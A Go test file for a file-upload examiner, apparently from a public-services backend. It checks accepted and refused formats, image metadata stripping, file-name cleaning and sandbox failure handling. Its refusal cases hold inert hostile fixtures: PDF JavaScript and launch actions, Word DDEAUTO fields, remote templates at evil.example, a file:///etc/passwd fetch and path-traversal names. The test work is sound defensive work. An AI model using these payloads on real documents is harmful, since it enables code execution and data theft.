package examine_test

import (
	"bytes"
	"errors"
	"image"
	"image/jpeg"
	"image/png"
	"os"
	"strings"
	"testing"
	"time"

	"innbyggertjenesten/bff/examine"
	make "innbyggertjenesten/bff/examine/examinetest"
)

// TestMain lets this test's own program be the child that examines.
// unhurried waits longer than a server would: the race detector makes a picture slow, and other tests slower.
var unhurried = examine.Child{Patience: 2 * time.Minute}

func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == "examine" {
		if err := examine.Serve(os.Stdin, os.Stdout); err != nil {
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

func read(t *testing.T, name string) []byte {
	t.Helper()
	content, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return content
}

func openDocument(inside string) string {
	const namespace = "urn:oasis:names:tc:opendocument:xmlns:"
	text := `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:xlink="http://www.w3.org/1999/xlink"`
	for _, prefix := range []string{"office", "text", "draw", "style", "meta", "form", "table", "script", "presentation"} {
		text += ` xmlns:` + prefix + `="` + namespace + prefix + `:1.0"`
	}
	return text + `><office:scripts/>` + inside + `</office:document-content>`
}

// made is an OpenDocument letter with a part of its own.
func made(name, inside string) []byte {
	if strings.EqualFold(name, "content.xml") {
		name = "Object 1/" + name
	}
	return make.ODT(make.Entry{Name: name, Content: openDocument(inside)})
}

func word(inside string) string {
	return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + inside + `</w:document>`
}

// field is one of Word's, its instruction in pieces.
func field(pieces ...string) string {
	text := `<w:fldChar w:fldCharType="begin"/>`
	for _, piece := range pieces {
		text += "<w:r><w:instrText>" + piece + "</w:instrText></w:r>"
	}
	return text + `<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>`
}

// described is a document that says so of one of its parts.
func described(kind string) []byte {
	return make.Archive(make.Entry{Name: "[Content_Types].xml", Content: `<Types><Override ContentType="` + kind + `"/></Types>`}, make.Entry{Name: "word/document.xml", Content: "<x/>"})
}

func TestWhatIsAccepted(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		content []byte
		kind    examine.Kind
		changed bool
	}{
		"photo":                   {make.Photo(40, 20, 1), examine.JPEG, true},
		"screenshot":              {make.PNG(40, 20), examine.PNG, true},
		"telephone's photo":       {read(t, "picture.heic"), examine.JPEG, true},
		"web picture":             {read(t, "picture.webp"), examine.JPEG, true},
		"PDF":                     {make.PDF(), examine.PDF, false},
		"PDF with packed objects": {make.PDF(make.Packed("/Type /ObjStm /N 1 /First 4", "4 0 << /Type /Font >>")), examine.PDF, false},
		"letter":                  {make.DOCX(), examine.DOCX, false},
		"letter with a link and a template of its own": {make.DOCX(make.Entry{Name: "word/_rels/document.xml.rels", Content: `<Relationships>
			<Relationship Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/>
			<Relationship Type="http://x/attachedTemplate" Target="file:///C:\Users\x\Normal.dotm" TargetMode="External"/></Relationships>`}), examine.DOCX, false},
		"letter with a chart's table": {make.DOCX(make.Entry{Name: "word/embeddings/Microsoft_Excel_Sheet.xlsx", Content: string(make.Archive(
			make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "xl/workbook.xml", Content: "<workbook/>"}))}), examine.DOCX, false},
		"table":                 {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "xl/workbook.xml", Content: "<workbook/>"}), examine.XLSX, false},
		"slides":                {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "ppt/presentation.xml", Content: "<presentation/>"}, make.Entry{Name: "ppt/slides/slide1.xml", Content: "<slide/>"}), examine.PPTX, false},
		"OpenDocument":          {make.ODT(), examine.ODT, false},
		"OpenDocument's table":  {make.OpenDocument("spreadsheet", make.Entry{Name: "styles.xml", Content: openDocument(`<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>`)}), examine.ODS, false},
		"OpenDocument's slides": {make.OpenDocument("presentation", make.Entry{Name: "styles.xml", Content: openDocument(`<draw:a xlink:href="https://example.org/">x</draw:a>`)}), examine.ODP, false},
		"OpenDocument with links, a picture and the template it was made with": {make.ODT(
			make.Entry{Name: "styles.xml", Content: openDocument(`<style:background-image/>`)},
			make.Entry{Name: "meta.xml", Content: openDocument(`<meta:template xlink:href="file:///C:/Users/x/brev.ott"/><meta:auto-reload/>`)},
			make.Entry{Name: "Object 1/content.xml", Content: openDocument(`<text:a xlink:href="https://example.org/">x</text:a>
				<draw:a xlink:href="mailto:x@example.org"><draw:image xlink:href="Pictures/1.png"/></draw:a><draw:object xlink:href="./Object 2"/>
				<form:form xlink:href=""/><table:table-cell table:formula="of:=SUM([.A1:.A2])"/>
				<presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://example.org"/>
				<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>`)}), examine.ODT, false},
		"letter with a table of contents and links": {make.DOCX(make.Entry{Name: "word/footer1.xml", Content: word(
			field(` TOC \o "1-3" `) + field(` HYPERLINK "https://example.org/DDE" `) + `<w:fldSimple w:instr=" PAGE "/>`)}), examine.DOCX, false},
		"letter with data of another program": {make.DOCX(make.Entry{Name: "customXml/item1.xml", Content: "\xff\xfe<\x00x\x00/\x00>\x00"}), examine.DOCX, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			quick, err := examine.Quick(c.content[:min(len(c.content), 64<<10)], c.content[max(0, len(c.content)-(64<<10)):], "x")
			if err != nil || quick != c.kind {
				t.Errorf("a quick look: %v, %v", quick, err)
			}
			got, err := unhurried.Examine(t.Context(), c.content)
			if err != nil || got.Kind != c.kind || (got.Content != nil) != c.changed {
				t.Errorf("got %v, changed %t, %v", got.Kind, got.Content != nil, err)
			}
		})
	}
}

func TestWhatIsRefusedAndWhy(t *testing.T) {
	t.Parallel()
	relation := func(kind, target string) []byte {
		return make.DOCX(make.Entry{Name: "word/_rels/settings.xml.rels", Content: `<Relationships><Relationship Type="http://x/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`})
	}
	for name, c := range map[string]struct {
		content []byte
		reason  examine.Reason
	}{
		"nothing known":                {[]byte("hello"), examine.TypeNotAllowed},
		"program":                      {[]byte("MZ\x90\x00"), examine.TypeNotAllowed},
		"SVG":                          {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), examine.TypeNotAllowed},
		"HTML":                         {[]byte("<!doctype html><script>alert(1)</script>"), examine.TypeNotAllowed},
		"picture of another kind":      {[]byte("GIF89a" + strings.Repeat("\x00", 40)), examine.TypeNotAllowed},
		"AVIF":                         {[]byte("\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + strings.Repeat("\x00", 40)), examine.TypeNotAllowed},
		"any archive":                  {make.Archive(make.Entry{Name: "a.txt", Content: "a"}), examine.TypeNotAllowed},
		"old Office":                   {make.OLE(false), examine.TypeNotAllowed},
		"Office with a password":       {make.OLE(true), examine.Encrypted},
		"OpenDocument with a password": {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "word/document.xml", Content: "<x/>"}, make.Entry{Name: "META-INF/manifest.xml", Content: "<manifest><file-entry><encryption-data/></file-entry></manifest>"}), examine.Encrypted},
		"PDF with a password":          {make.PDF("<< /Filter /Standard >>", "<< /Encrypt 4 0 R >>"), examine.Encrypted},
		"PDF with a script":            {make.PDF("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), examine.ActiveContent},
		"PDF with a hidden script":     {make.PDF("<< /S /J#61va#53cript /JS (x) >>"), examine.ActiveContent},
		"PDF with a packed script":     {make.PDF(make.Packed("/Type /ObjStm /N 1 /First 4", "4 0 << /S /JavaScript /JS (x) >>")), examine.ActiveContent},
		"PDF with objects that say not what they are": {make.PDF(make.Packed("/N 1 (obj) /First 4", "4 0 << /S /JavaScript >>")), examine.ActiveContent},
		"PDF whose objects' begin is faked":           {make.PDF(make.Packed("/Type /ObjStm /N 1 /First 4 /X (stream\n)", "4 0 << /S /Launch >>")), examine.ActiveContent},
		"PDF with objects packed otherwise":           {make.PDF("<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 4 >>\nstream\n2f4a>\nendstream"), examine.Broken},
		"PDF with objects packed twice":               {make.PDF(make.PackedTwice("4 0 << /S /JavaScript /JS (x) >>")), examine.Broken},
		"PDF that says elsewhere how its objects are packed": {make.PDF(
			"<< /Type /ObjStm /N 1 /First 4 /Filter 5 0 R /Length 12 >>\nstream\n2f4c61756e63>\nendstream", "[/ASCIIHexDecode]"), examine.Broken},
		"PDF that hides in a text how its objects are packed": {make.PDF(
			"<< /Type /ObjStm /N 1 /X (stream\n) /First 4 /Filter /ASCIIHexDecode /Length 12 >>\nstream\n2f4c61756e63>\nendstream"), examine.Broken},
		"PDF whose objects begin behind a comment": {make.PDF(strings.Replace(
			make.Packed("/Type /ObjStm /N 1 /First 4", "4 0 << /S /JavaScript >>"), "stream\n", "stream %\n", 1)), examine.Broken},
		"PDF that mixes its objects up before packing": {make.PDF(
			make.Packed("/Type /ObjStm /N 1 /First 4 /DecodeParms 5 0 R", "4 0 << /S /Jav\x02aScript >>"), "<< /Predictor 12 >>"), examine.Broken},
		"PDF that opens a file elsewhere":  {make.PDF("<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>"), examine.ActiveContent},
		"PDF that starts a program":        {make.PDF("<< /S /Launch /F (cmd.exe) >>"), examine.ActiveContent},
		"PDF that sends":                   {make.PDF("<< /S /SubmitForm /F (http://x) >>"), examine.ActiveContent},
		"PDF with a form that has scripts": {make.PDF("<< /AcroForm << /XFA 4 0 R >> >>"), examine.ActiveContent},
		"PDF with a file":                  {make.PDF("<< /Type /EmbeddedFile >>"), examine.EmbeddedFiles},
		"PDF and archive":                  {append(make.PDF(), make.Archive(make.Entry{Name: "a", Content: "a"})...), examine.SeveralTypes},
		"PDF and page":                     {append(make.PDF(), []byte("<script>"+strings.Repeat("x", 100)+"</script>")...), examine.SeveralTypes},
		"PDF without an end":               {[]byte("%PDF-1.7\n"), examine.Broken},
		"photo and archive":                {append(make.Photo(8, 8, 1), make.Archive(make.Entry{Name: "a", Content: "a"})...), examine.SeveralTypes},
		"archive with something before it": {append([]byte("PK\x03\x04xxxx"), make.DOCX()...), examine.SeveralTypes},
		"archive with something behind it": {append(make.DOCX(), []byte("<html>")...), examine.SeveralTypes},
		"huge picture":                     {make.HugePNG(60_000, 60_000), examine.TooComplex},
		"picture that is none":             {append([]byte{0xff, 0xd8, 0xff}, make.PNG(4, 4)...), examine.Broken},
		"half a picture":                   {make.PNG(200, 200)[:90], examine.Broken},
		"letter with a macro":              {make.DOCX(make.Entry{Name: "word/vbaProject.bin", Content: "x"}), examine.ActiveContent},
		"letter that hides its macro":      {make.DOCX(make.Entry{Name: "word/VBAPROJECT.BIN", Content: "x"}), examine.ActiveContent},
		"letter that says that it has macros": {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`},
			make.Entry{Name: "word/document.xml", Content: "<x/>"}), examine.ActiveContent},
		"slides that fetch a video":                 {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"}, make.Entry{Name: "ppt/presentation.xml", Content: "<x/>"}, make.Entry{Name: "ppt/slides/_rels/slide1.xml.rels", Content: `<Relationships><Relationship Type="http://x/video" Target="http://evil.example/x.mp4" TargetMode="External"/></Relationships>`}), examine.ActiveContent},
		"slides with a macro":                       {make.Archive(make.Entry{Name: "[Content_Types].xml", Content: `<Types><Override ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/></Types>`}, make.Entry{Name: "ppt/presentation.xml", Content: "<x/>"}), examine.ActiveContent},
		"OpenDocument's table with a macro":         {make.OpenDocument("spreadsheet", make.Entry{Name: "Basic/Standard/Module1.xml", Content: "<x/>"}), examine.ActiveContent},
		"OpenDocument of another kind":              {make.OpenDocument("graphics"), examine.TypeNotAllowed},
		"OpenDocument with a macro":                 {make.ODT(make.Entry{Name: "Basic/Standard/Module1.xml", Content: "<x/>"}), examine.ActiveContent},
		"letter with a program inside":              {make.DOCX(make.Entry{Name: "word/embeddings/oleObject1.bin", Content: "x"}), examine.EmbeddedFiles},
		"letter with an old Office document inside": {make.DOCX(make.Entry{Name: "word/media/image1.png", Content: string(make.OLE(false))}), examine.EmbeddedFiles},
		"letter with a table with a macro": {make.DOCX(make.Entry{Name: "word/embeddings/a.xlsx", Content: string(make.Archive(make.Entry{Name: "[Content_Types].xml", Content: "<Types/>"},
			make.Entry{Name: "xl/workbook.xml", Content: "<x/>"}, make.Entry{Name: "xl/vbaProject.bin", Content: "x"}))}), examine.ActiveContent},
		"letter that fetches its template":               {relation("attachedTemplate", "http://evil.example/x.dotm"), examine.ActiveContent},
		"letter that fetches from a share":               {relation("attachedTemplate", `file:///\\evil\x.dotm`), examine.ActiveContent},
		"letter that fetches a picture":                  {relation("image", "http://evil.example/x.png"), examine.ActiveContent},
		"OpenDocument that listens":                      {made("content.xml", `<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>`), examine.ActiveContent},
		"OpenDocument whose slide starts a program":      {made("Content.xml", `<presentation:event-listener presentation:action="execute" xlink:href="file:///c:/x.exe"/>`), examine.ActiveContent},
		"OpenDocument that asks a program":               {made("content.xml", `<office:dde-source office:dde-application="cmd"/>`), examine.ActiveContent},
		"OpenDocument that fetches a picture":            {made("content.xml", `<draw:image xlink:href="http://evil.example/x.png"/>`), examine.ActiveContent},
		"OpenDocument that fetches one in its styles":    {made("styles.xml", `<style:background-image xlink:href="&#104;ttps://evil.example/x.png"/>`), examine.ActiveContent},
		"OpenDocument whose chart fetches from a share":  {made("Object 1/content.xml", `<draw:image xlink:href="\\evil\x.png"/>`), examine.ActiveContent},
		"OpenDocument that fetches a section":            {made("content.xml", `<text:section-source xlink:href=" //evil.example/x.odt"/>`), examine.ActiveContent},
		"OpenDocument that fetches a file of the reader": {made("content.xml", `<text:section-source xlink:href="file:///etc/passwd"/>`), examine.ActiveContent},
		"OpenDocument that goes elsewhere by itself":     {made("meta.xml", `<meta:auto-reload xlink:href="http://evil.example/"/>`), examine.ActiveContent},
		"OpenDocument that fetches its template":         {made("meta.xml", `<meta:template xlink:href="file:////evil/x.ott"/>`), examine.ActiveContent},
		"OpenDocument with a link that runs":             {made("content.xml", `<text:a xlink:href="vnd.sun.star.script:x$y?language=Basic"/>`), examine.ActiveContent},
		"OpenDocument that sends a cell":                 {made("content.xml", `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>`), examine.ActiveContent},
		"OpenDocument that declares what it fetches":     {make.ODT(make.Entry{Name: "styles.xml", Content: `<!DOCTYPE x [<!ATTLIST image href CDATA "http://evil.example">]><image/>`}), examine.Broken},
		"OpenDocument in other letters":                  {make.ODT(make.Entry{Name: "styles.xml", Content: `<?xml version="1.0" encoding="UTF-7"?><x/>`}), examine.Broken},
		"letter that asks a program":                     {make.DOCX(make.Entry{Name: "word/header1.xml", Content: word(`<w:fldSimple w:instr=" DDEAUTO c:\x.exe"/>`)}), examine.ActiveContent},
		"letter that asks a program in pieces":           {make.DOCX(make.Entry{Name: "word/x.xml", Content: word(field("dd", "e", "Auto", ` c:\x.exe`))}), examine.ActiveContent},
		"letter that asks a program with another field between": {make.DOCX(make.Entry{Name: "word/x.xml", Content: word(
			`<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText>` + field(" PAGE ") + `<w:instrText>DE x</w:instrText>`)}), examine.ActiveContent},
		"table that asks a program":               {make.DOCX(make.Entry{Name: "xl/externalLinks/externalLink1.xml", Content: `<externalLink><ddeLink ddeService="cmd"/></externalLink>`}), examine.ActiveContent},
		"table with a sheet of macros":            {described("application/vnd.ms-excel.macrosheet+xml"), examine.ActiveContent},
		"letter that spells its macros otherwise": {described("application/vnd.ms-word.document.macro&#69;nabled.main+xml"), examine.ActiveContent},
		"letter that swells":                      {make.DOCX(make.Entry{Name: "word/media/a.bin", Content: strings.Repeat("\x00", 210<<20)}), examine.TooComplex},
		"letter with a way out":                   {make.DOCX(make.Entry{Name: "word/../../evil.xml", Content: "x"}), examine.Broken},
		"letter with one name twice":              {make.DOCX(make.Entry{Name: "word/document.XML", Content: "x"}), examine.Broken},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := unhurried.Examine(t.Context(), c.content)
			var refused *examine.Refusal
			if !errors.As(err, &refused) || refused.Reason != c.reason {
				t.Errorf("got %v, wanted %s", err, c.reason)
			}
		})
	}
}

func TestAPictureStandsUprightAndTellsNothingMore(t *testing.T) {
	t.Parallel()
	// Red at the left and blue at the right, as the camera took it.
	for orientation, corner := range map[int]image.Point{1: {2, 2}, 2: {37, 2}, 3: {37, 2}, 4: {2, 2}, 5: {2, 2}, 6: {2, 2}, 7: {2, 37}, 8: {2, 37}} {
		got, err := examine.Examine(make.Photo(40, 20, orientation))
		if err != nil {
			t.Fatal(err)
		}
		checkBare(t, got.Content)
		picture, err := jpeg.Decode(bytes.NewReader(got.Content))
		if err != nil {
			t.Fatal(err)
		}
		lying := picture.Bounds().Dx() == 40 && picture.Bounds().Dy() == 20
		if lying != (orientation < 5) {
			t.Errorf("orientation %d: %v", orientation, picture.Bounds())
		}
		if r, _, b, _ := picture.At(corner.X, corner.Y).RGBA(); r < 2*b {
			t.Errorf("orientation %d: it isn't red at %v (%d, %d)", orientation, corner, r, b)
		}
	}
	got, err := examine.Examine(make.PNG(40, 20))
	if err != nil || bytes.Contains(got.Content, []byte(make.Secret)) {
		t.Errorf("PNG: %v, or its text is still there", err)
	}
	if _, err := png.Decode(bytes.NewReader(got.Content)); err != nil {
		t.Error(err)
	}
}

// A telephone's own photo says in its container how it was held, and once more
// in its Exif: it is turned once. turned.heic is red at the left and blue at the
// right as the camera took it, and has a place and a camera in its Exif. Not
// beside the others, whose children have little time for the same work.
func TestATelephonesPhotoStandsUprightAndTellsNothingMore(t *testing.T) {
	taken := read(t, "turned.heic")
	angle := bytes.Index(taken, []byte("irot")) + len("irot")
	if !bytes.Contains(taken, []byte(make.Secret)) {
		t.Fatal("nothing is there that could be taken away")
	}
	// By how many right angles it is turned against the clock.
	for turns, c := range map[byte]struct {
		lying     bool
		red, blue image.Point
	}{
		1: {false, image.Pt(64, 245), image.Pt(64, 10)},
		2: {true, image.Pt(245, 64), image.Pt(10, 64)},
		3: {false, image.Pt(64, 10), image.Pt(64, 245)},
	} {
		held := bytes.Clone(taken)
		held[angle] = turns
		got, err := examine.Examine(held)
		if err != nil {
			t.Fatal(err)
		}
		picture, err := jpeg.Decode(bytes.NewReader(got.Content))
		if err != nil {
			t.Fatal(err)
		}
		wanted := image.Rect(0, 0, 128, 256)
		if c.lying {
			wanted = image.Rect(0, 0, 256, 128)
		}
		if picture.Bounds() != wanted {
			t.Fatalf("%d right angles: %v", turns, picture.Bounds())
		}
		if r, _, b, _ := picture.At(c.red.X, c.red.Y).RGBA(); r < 2*b {
			t.Errorf("%d right angles: it isn't red at %v (%d, %d)", turns, c.red, r, b)
		}
		if r, _, b, _ := picture.At(c.blue.X, c.blue.Y).RGBA(); b < 2*r {
			t.Errorf("%d right angles: it isn't blue at %v (%d, %d)", turns, c.blue, r, b)
		}
		checkBare(t, got.Content)
	}
	// One that a telephone took, with XMP beside its Exif.
	got, err := examine.Examine(read(t, "picture.heic"))
	if err != nil {
		t.Fatal(err)
	}
	checkBare(t, got.Content)
}

// checkBare checks that a JPEG has its points and what they are drawn with, and
// nothing that is said about it.
func checkBare(t *testing.T, content []byte) {
	t.Helper()
	if bytes.Contains(content, []byte(make.Secret)) {
		t.Error("the place is still there")
	}
	for at := 2; at+4 <= len(content) && content[at] == 0xff && content[at+1] != 0xda; {
		if marker := content[at+1]; marker >= 0xe0 && marker <= 0xef || marker == 0xfe {
			t.Errorf("a segment %x is there", marker)
		}
		at += 2 + int(content[at+2])<<8 + int(content[at+3])
	}
}

func TestNamesAreCleanedAndFollowTheContent(t *testing.T) {
	t.Parallel()
	for given, wanted := range map[string]string{
		"brev.pdf":                 "brev.pdf",
		"IMG_0042.HEIC":            "IMG_0042.pdf",
		"brev.pdf.exe":             "brev.pdf.exe.pdf",
		"../../etc/passwd":         "passwd.pdf",
		`C:\temp\brev.pdf`:         "brev.pdf",
		"a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie x=1.pdf",
		"\u202egnp.exe":            "gnp.exe.pdf",
		"søknad om møte.docx":      "søknad om møte.pdf",
		"so\u0308knad":             "söknad.pdf",
		"رسالة.pdf":                "رسالة.pdf",
		"":                         "vedlegg.pdf",
		"...":                      "vedlegg.pdf",
		".pdf":                     "vedlegg.pdf",
		"<img src=x>.jpg":          "img src=x.pdf",
		"\x00\xff":                 "vedlegg.pdf",
		strings.Repeat("a", 5000):  strings.Repeat("a", 100) + ".pdf",
	} {
		if got := examine.CleanName(given, examine.PDF); got != wanted {
			t.Errorf("%q became %q, wanted %q", given, got, wanted)
		}
	}
}

func TestAFileThatNeverEndsOrDiesHarmsNothing(t *testing.T) {
	t.Parallel()
	started := time.Now()
	_, err := examine.Child{Command: []string{"sh", "-c", "cat >/dev/null; echo begun; kill -9 $$"}}.Examine(t.Context(), make.PDF())
	var refused *examine.Refusal
	if !errors.As(err, &refused) || refused.Reason != examine.TooComplex {
		t.Errorf("a process that died: %v", err)
	}
	_, err = examine.Child{Command: []string{"sh", "-c", "cat >/dev/null; echo begun; head -c 80000000 /dev/zero"}}.Examine(t.Context(), make.PDF())
	if !errors.As(err, &refused) {
		t.Errorf("a process that says too much: %v", err)
	}
	for _, signal := range []string{"TERM", "INT", "HUP"} {
		_, err = examine.Child{Command: []string{"sh", "-c", "kill -" + signal + " $$; sleep 5"}}.Examine(t.Context(), make.PDF())
		if err == nil || errors.As(err, &refused) {
			t.Errorf("a process that was told to end (%s): %v; that says nothing of the file", signal, err)
		}
	}
	for name, command := range map[string][]string{
		"no process":                         {"/does/not/exist"},
		"one that could not be limited":      {"sh", "-c", "cat >/dev/null; exit 1"},
		"one that could not be loaded":       {"sh", "-c", "exit 127"},
		"one that was ended before it began": {"sh", "-c", "kill -9 $$"},
		"one that says nothing":              {"true"},
	} {
		_, err = examine.Child{Command: command}.Examine(t.Context(), make.PDF())
		if err == nil || errors.As(err, &refused) {
			t.Errorf("%s: %v; that says nothing of the file", name, err)
		}
	}
	t.Log(time.Since(started))
}

func FuzzExamine(f *testing.F) {
	for _, seed := range [][]byte{
		make.Photo(8, 8, 6), make.PNG(8, 8), make.PDF(make.Packed("/Type /ObjStm /N 1 /First 4", "4 0 << /A /B >>")), make.DOCX(), make.ODT(), make.OLE(true),
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, content []byte) {
		if bytes.Contains(content[:min(len(content), 16)], []byte("ftyp")) {
			t.Skip("HEIC is decoded in a machine of its own")
		}
		examined, err := examine.Examine(content)
		var refused *examine.Refusal
		if err != nil && !errors.As(err, &refused) {
			t.Errorf("an error without a reason: %v", err)
		}
		if err == nil && examined.Kind.MediaType == "" {
			t.Error("accepted as nothing")
		}
	})
}
